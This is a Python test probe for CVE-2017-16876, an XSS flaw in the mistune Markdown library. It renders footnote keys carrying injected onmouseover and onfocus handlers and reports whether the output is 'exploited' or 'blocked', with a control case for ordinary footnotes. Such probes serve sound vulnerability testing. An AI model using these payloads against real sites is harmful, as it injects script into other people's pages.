# /// vertice-probe
# id = "PYSEC-2017-18"
# aliases = ["CVE-2017-16876", "GHSA-98gj-wwxm-cj3h"]
# package = "mistune"
# summary = """\
#   The key of a footnote gets into attributes without its quotes being escaped, so a text carries script into the \
#   page."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N" }]
# cwe = ["CWE-79"]
# kind = "xss"
# symbols = ["mistune.markdown", "mistune.Markdown", "mistune.Renderer", "mistune.BlockLexer", "mistune.InlineLexer"]
#
# [[affected]]
# package = "mistune"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.8.1" }] }]
#
# [cases]
# attack = "a footnote whose key has a quote adds an event handler"
# [cases.variants]
# lines = "a key over several lines in a quotation, whose definition has it on one"
# [cases.controls]
# footnote = "an ordinary footnote is rendered with its links"
#
# [test]
# vulnerable = "0.8"
# fixed = "0.8.1"
# ///
"""CVE-2017-16876: script through footnote keys."""

import json
import re
import sys
from html.parser import HTMLParser


class Danger(HTMLParser):
    """Collects event handlers and script addresses as a browser would see them."""

    def __init__(self):
        HTMLParser.__init__(self)
        self.found = []
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            plain = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or (name in ("href", "src") and plain.startswith("javascript:")):
                self.found.append("%s %s=%r" % (tag, name, value))


def markdown(text):
    import mistune

    if hasattr(mistune, "create_markdown"):  # 2.0 and later
        return mistune.create_markdown(plugins=["footnotes"])(text)
    return mistune.markdown(text)


def judge(text, tag):
    """`tag` is the element that the text makes, so that its rendering was reached."""
    output = markdown(text)
    parser = Danger()
    parser.feed(output)
    if parser.found:
        return "exploited", "; ".join(parser.found)
    if tag in parser.tags:
        return "blocked", "%s without script: %s" % (tag, " ".join(output.split()))
    raise RuntimeError("no %s in %r" % (tag, output))


def attack():
    return judge('a[^x" onmouseover="alert(1)]\n\n[^x" onmouseover="alert(1)]: note', "sup")


def lines():
    return judge('> a[^k"\nonfocus="alert(1)"\ntabindex="1]\n\n[^k" onfocus="alert(1)" tabindex="1]: note', "sup")


def footnote():
    output = markdown("text[^one]\n\n[^one]: the note")
    wanted = ["<sup", "the note", "footnotes", "fnref-"]
    return ("works" if all(part in output for part in wanted) else "broken"), " ".join(output.split())


CASES = {"attack": attack, "lines": lines, "footnote": footnote}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
